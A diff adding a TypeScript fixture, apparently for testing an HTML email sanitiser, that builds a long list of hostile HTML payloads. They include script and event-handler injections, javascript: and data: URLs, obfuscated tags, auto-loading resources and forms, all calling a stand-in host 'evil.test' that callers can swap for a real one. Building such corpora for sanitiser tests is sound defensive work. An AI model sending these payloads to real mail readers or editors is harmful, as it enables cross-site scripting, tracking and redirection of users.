@@ -1,0 +1,131 @@
+/** Stands for the place where everything hostile would lead or load from. */
+const EVIL = 'http://evil.test'
+
+const SCRIPT = `parent.postMessage('ran','*');fetch('${EVIL}/ran')`
+
+const handlers =
+  `onload onerror onclick onmouseover onmousemove onfocus onfocusin onblur oninput onchange onkeydown
+  onpointerdown onpointermove onpointerenter onwheel onscroll onanimationstart onanimationend ontransitionend
+  onbeforetoggle ontoggle onsubmit oncopy onpaste ondragstart onresize onpageshow onhashchange onmessage`.split(
+    /\s+/,
+  )
+
+const urls = [
+  `javascript:${SCRIPT}`,
+  `JaVaScRiPt:${SCRIPT}`,
+  ` javascript:${SCRIPT}`,
+  `java&#10;script:${SCRIPT}`,
+  `&#106;avascript:${SCRIPT}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${SCRIPT}</script>`,
+  `${EVIL}/away`,
+  `//evil.test/away`,
+  `blob:${EVIL}/x`,
+]
+
+/** Things that load by themselves. */
+const loads = [
+  `<img src="${EVIL}/i.png">`,
+  `<img srcset="${EVIL}/i.png 1x, ${EVIL}/j.png 2x">`,
+  `<picture><source srcset="${EVIL}/i.png"><img alt=""></picture>`,
+  `<div style="background:url(${EVIL}/b.png);height:20px">x</div>`,
+  `<div style="background-image:image-set(url(${EVIL}/b.png) 1x);height:20px">x</div>`,
+  `<style>@import url(${EVIL}/a.css);</style>`,
+  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff2)}p{font-family:x}</style><p>x</p>`,
+  `<style>p{list-style-image:url(${EVIL}/l.png);display:list-item}</style><p>x</p>`,
+  `<style>p::before{content:url(${EVIL}/c.png)}</style><p>x</p>`,
+  `<style>p{cursor:url(${EVIL}/c.cur),auto}</style><p>x</p>`,
+  `<link rel="stylesheet" href="${EVIL}/a.css">`,
+  `<link rel="preload" as="image" href="${EVIL}/p.png">`,
+  `<link rel="prefetch" href="${EVIL}/p">`,
+  `<link rel="dns-prefetch" href="//evil.test">`,
+  `<link rel="preconnect" href="${EVIL}">`,
+  `<link rel="modulepreload" href="${EVIL}/m.js">`,
+  `<link rel="icon" href="${EVIL}/f.ico">`,
+  `<link rel="manifest" href="${EVIL}/m.json">`,
+  `<video src="${EVIL}/v.mp4" autoplay muted></video>`,
+  `<video poster="${EVIL}/p.png"></video>`,
+  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
+  `<video><source src="${EVIL}/v.mp4"><track src="${EVIL}/t.vtt" default></video>`,
+  `<object data="${EVIL}/o.html"></object>`,
+  `<embed src="${EVIL}/e.swf">`,
+  `<iframe src="${EVIL}/i.html"></iframe>`,
+  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
+  `<frameset><frame src="${EVIL}/f.html"></frameset>`,
+  `<portal src="${EVIL}/p.html"></portal>`,
+  `<svg><image href="${EVIL}/s.png" width="9" height="9"/></svg>`,
+  `<svg><image xlink:href="${EVIL}/s.png" width="9" height="9"/></svg>`,
+  `<svg><use href="${EVIL}/s.svg#a"/></svg>`,
+  `<svg><feImage href="${EVIL}/s.png"/></svg>`,
+  `<svg><style>@import url(${EVIL}/a.css)</style></svg>`,
+  `<input type="image" src="${EVIL}/i.png">`,
+  `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">x</table>`,
+  `<body background="${EVIL}/b.png">`,
+  `<script src="${EVIL}/s.js"></script>`,
+  `<script type="module">import '${EVIL}/m.js'</script>`,
+  `<script type="importmap">{"imports":{"a":"${EVIL}/a.js"}}</script>`,
+  `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/x"]}]}</script>`,
+]
+
+/** Things that run or lead away by themselves. */
+const acts = [
+  `<script>${SCRIPT}</script>`,
+  `<scr<script>ipt>${SCRIPT}</script>`,
+  `<svg><script>${SCRIPT}</script></svg>`,
+  `<svg onload="${SCRIPT}"></svg>`,
+  `<svg><animate onbegin="${SCRIPT}" attributeName="x" dur="1s"/></svg>`,
+  `<svg><a><animate attributeName="href" values="javascript:${SCRIPT}"/><text y="20">x</text></a></svg>`,
+  `<svg><set attributeName="onload" to="${SCRIPT}"/></svg>`,
+  `<math><mtext><script>${SCRIPT}</script></mtext></math>`,
+  `<math><maction xlink:href="javascript:${SCRIPT}">x</maction></math>`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}/away">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<meta http-equiv="set-cookie" content="a=b">`,
+  `<base href="${EVIL}/"><a href="away">x</a>`,
+  `<base target="_top"><a href="${EVIL}/away">x</a>`,
+  `<template><script>${SCRIPT}</script></template>`,
+  `<div><template shadowrootmode="open"><script>${SCRIPT}</script><img src="${EVIL}/s.png"></template></div>`,
+  `<noscript><img src="${EVIL}/n.png"></noscript>`,
+  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
+  `<!--[if mso]><script>${SCRIPT}</script><![endif]-->`,
+  `<!--><script>${SCRIPT}</script>-->`,
+  `<![CDATA[<script>${SCRIPT}</script>]]>`,
+  `<xmp><script>${SCRIPT}</script></xmp>`,
+  `<textarea></textarea><script>${SCRIPT}</script>`,
+  `<title></title><script>${SCRIPT}</script>`,
+  `<style></style><script>${SCRIPT}</script>`,
+  `<select><option><script>${SCRIPT}</script></select>`,
+  `<details open ontoggle="${SCRIPT}"><summary>x</summary></details>`,
+  `<dialog open oncancel="${SCRIPT}">x</dialog>`,
+  `<button popovertarget="p" onclick="${SCRIPT}">x</button><div id="p" popover onbeforetoggle="${SCRIPT}">y</div>`,
+  `<input autofocus onfocus="${SCRIPT}">`,
+  `<marquee onstart="${SCRIPT}">x</marquee>`,
+  `<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="${SCRIPT}">x</p>`,
+  `<div style="width:expression(${SCRIPT});behavior:url(${EVIL}/b.htc)">x</div>`,
+  `<a href="${EVIL}/away" ping="${EVIL}/ping" target="_top">x</a>`,
+  `<a href="${EVIL}/away" download>x</a>`,
+  `<map name="m"><area shape="default" href="${EVIL}/away" alt="x"></map>`,
+  `<img id="x" name="x"><form id="x" action="${EVIL}/post"><input name="action"></form>`,
+]
+
+const forms = [
+  `<form action="${EVIL}/post" method="post"><input name="a" value="1"><button>x</button></form>`,
+  `<form action="${EVIL}/get"><button>x</button></form>`,
+  `<form id="f" action="${EVIL}/post"></form><button form="f">x</button>`,
+  `<form><button formaction="${EVIL}/post">x</button></form>`,
+  `<form action="${EVIL}/post" target="_top"><button>x</button></form>`,
+  `<form method="dialog"><button formmethod="post" formaction="javascript:${SCRIPT}">x</button></form>`,
+]
+
+const all: readonly string[] = [
+  ...handlers.map((name) => `<p tabindex="0" ${name}="${SCRIPT}" style="height:20px">x</p>`),
+  ...urls.map((url) => `<a href="${url}">x</a>`),
+  ...urls.map((url) => `<form action="${url}"><button>x</button></form>`),
+  ...loads,
+  ...acts,
+  ...forms,
+]
+
+/** HTML that somebody might write into an email to reach its readers or the people who edit it. */
+export const hostileEmails = (host: string): string[] => all.map((html) => html.replaceAll('evil.test', host))
